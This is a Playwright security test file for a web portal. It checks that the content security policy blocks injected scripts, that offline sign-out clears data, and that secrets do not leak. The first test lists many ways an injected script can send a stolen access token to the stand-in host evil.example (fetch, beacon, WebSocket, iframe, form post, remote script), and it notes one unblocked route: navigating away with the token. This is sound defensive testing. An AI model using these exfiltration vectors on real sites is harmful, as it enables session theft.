import { paths } from '@portal/shared/routing';
import { canary, watchForeignRequests } from '../../fixtures/markup.ts';
import { expect, test } from '../../fixtures/test.ts';
import { origin } from '../../harness/environment.ts';

const lagoon = origin('lagoon');

/** Console messages of the browser when the content security policy blocks something. */
const REFUSALS =
  /csp:| csp$|Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates the following|ERR_BLOCKED_BY_CSP|blocked:csp|Failed to execute/;

test('T-02 T-03 an injected script neither runs further code nor sends the token out', async ({
  page,
  problems,
  restoreSession,
}) => {
  problems.expect(REFUSALS);
  await restoreSession('lagoon');
  const foreignRequests = watchForeignRequests(page, lagoon);
  const reports: string[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/telemetry/csp')) reports.push(request.postData() ?? '');
  });
  await page.goto(lagoon + paths.language.path);
  await expect(page.getByRole('radiogroup').first()).toBeVisible();
  const token = await page.evaluate(() => localStorage.getItem('access_token') ?? '');
  expect(token).not.toBe('');

  const results = await page.evaluate(async (line) => {
    // Code evaluated by the debugger is exempt from the policy until its first asynchronous step.
    await new Promise((resolve) => setTimeout(resolve));
    const stolen = localStorage.getItem('access_token') ?? '';
    const evil = `https://evil.example/?t=${stolen}`;
    const attempts: Record<string, () => unknown> = {
      'innerHTML with a handler': () => {
        const box = document.createElement('div');
        document.body.append(box);
        box.innerHTML = `<img src=x onerror="${line}">`;
      },
      eval: () => (0, eval)(line),
      'new Function': () => new Function(line)(),
      'setTimeout of a string': () => setTimeout(line),
      'script from elsewhere': () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.head.append(script);
      },
      'inline script': () => {
        const script = document.createElement('script');
        script.textContent = line;
        document.head.append(script);
      },
      'inline handler': () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', line);
        document.body.append(button);
        button.click();
      },
      'javascript: link': () => {
        const link = document.createElement('a');
        link.href = `javascript:${line}`;
        document.body.append(link);
        link.click();
      },
      fetch: () => fetch(evil),
      beacon: () => navigator.sendBeacon(evil, stolen),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest();
        request.open('GET', evil);
        request.send();
      },
      WebSocket: () => new WebSocket(evil.replace('https', 'wss')),
      EventSource: () => new EventSource(evil),
      picture: () => {
        new Image().src = evil;
      },
      'style sheet': () => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = evil;
        document.head.append(link);
      },
      prefetch: () => {
        const link = document.createElement('link');
        link.rel = 'prefetch';
        link.href = evil;
        document.head.append(link);
      },
      frame: () => {
        const frame = document.createElement('iframe');
        frame.src = evil;
        document.body.append(frame);
      },
      form: () => {
        const form = document.createElement('form');
        form.action = evil;
        form.method = 'post';
        document.body.append(form);
        form.submit();
      },
      worker: () => new Worker(evil),
    };
    const thrown: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
      } catch {
        thrown.push(name);
      }
      if ('__hacked' in globalThis) return { ran: name, thrown };
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: '__hacked' in globalThis ? 'something, later' : undefined, thrown };
  }, canary);

  expect(results.ran).toBeUndefined();
  expect(results.thrown).toEqual(
    expect.arrayContaining(['innerHTML with a handler', 'eval', 'new Function', 'fetch']),
  );
  expect(foreignRequests).toEqual([]);
  expect(page.url()).toBe(lagoon + paths.language.path);
  await expect.poll(() => reports.length).toBeGreaterThan(0);
  // Known gap: no policy blocks a navigation away with the token in the address.
  const left = page.waitForRequest(
    (request) => request.isNavigationRequest() && request.url().includes('evil.example'),
  );
  await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'gone' }));
  await page.evaluate(() => void (location.href = 'https://evil.example/?t=x'));
  expect((await left).url()).toContain('evil.example');
});

test('T-07 signing out offline clears every tab, and Back shows no data', async ({
  page,
  context,
  problems,
  signIn,
}) => {
  problems.expect(/ERR_INTERNET_DISCONNECTED|ERR_FAILED|status of 401/);
  await signIn('mono');
  const mono = origin('mono');
  await page.goto(mono + paths.dashboard.path);
  const figure = page.getByRole('main').getByRole('list').first();
  await expect(figure).toContainText('$');
  const seen = /\$[\d,.]+\d/.exec(await figure.innerText())?.[0] ?? '';
  expect(seen).not.toBe('');
  const other = await context.newPage();
  await other.goto(mono + paths.paymentInfo.path);
  await expect(other.getByRole('navigation').first()).toBeVisible();

  await page.route('**/api/member/logout', (route) => route.abort('internetdisconnected'));
  await page.getByRole('button', { name: /account menu/i }).click();
  await page.getByRole('menuitem', { name: 'Sign out' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Sign out' }).click();
  await expect(page).toHaveURL(mono + paths.login.path);
  await expect(other).toHaveURL(/\/login/);

  // The release and the theme of the domain, which contain no personal data.
  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual(['portal.last-good']);
  for (let step = 0; step < 3; step += 1) {
    await page.goBack();
    if (page.url() === 'about:blank') break;
    await expect(page.locator('form')).toBeVisible();
    expect(await page.locator('body').innerText()).not.toContain(seen);
  }
});

test('T-08 no URL, console message or storage contains a password, a token or an email address', async ({
  page,
  problems,
}) => {
  problems.expect(/status of 401/);
  const password = 'Kanarie-9137';
  const found: string[] = [];
  page.on('request', (request) => found.push(request.url(), JSON.stringify(request.headers().referer ?? '')));
  page.on('console', (message) => found.push(message.text()));
  await page.goto(lagoon + paths.login.path);
  const form = page.locator('form');
  await form.getByRole('textbox').first().fill('kanarie@lagoon.example');
  await form.locator('input[type=password]').fill(password);
  await form.locator('button[type=submit]').click();
  await expect(form.locator('button[type=submit]')).toBeEnabled();
  await page.waitForLoadState('networkidle');
  const storage = await page.evaluate(() =>
    JSON.stringify([
      { ...localStorage },
      { ...sessionStorage },
      document.cookie,
      history.state,
      document.documentElement.outerHTML,
    ]),
  );
  for (const secret of [password, 'kanarie@lagoon.example']) {
    expect(found.filter((text) => text.includes(secret))).toEqual([]);
    expect(storage).not.toContain(secret);
  }
  // Source maps are not served.
  const script = await page.locator('script[src]').first().getAttribute('src');
  problems.expect(/status of 404/);
  const status = await page.evaluate(async (address) => (await fetch(address)).status, `${script ?? ''}.map`);
  expect(status).toBe(404);
});
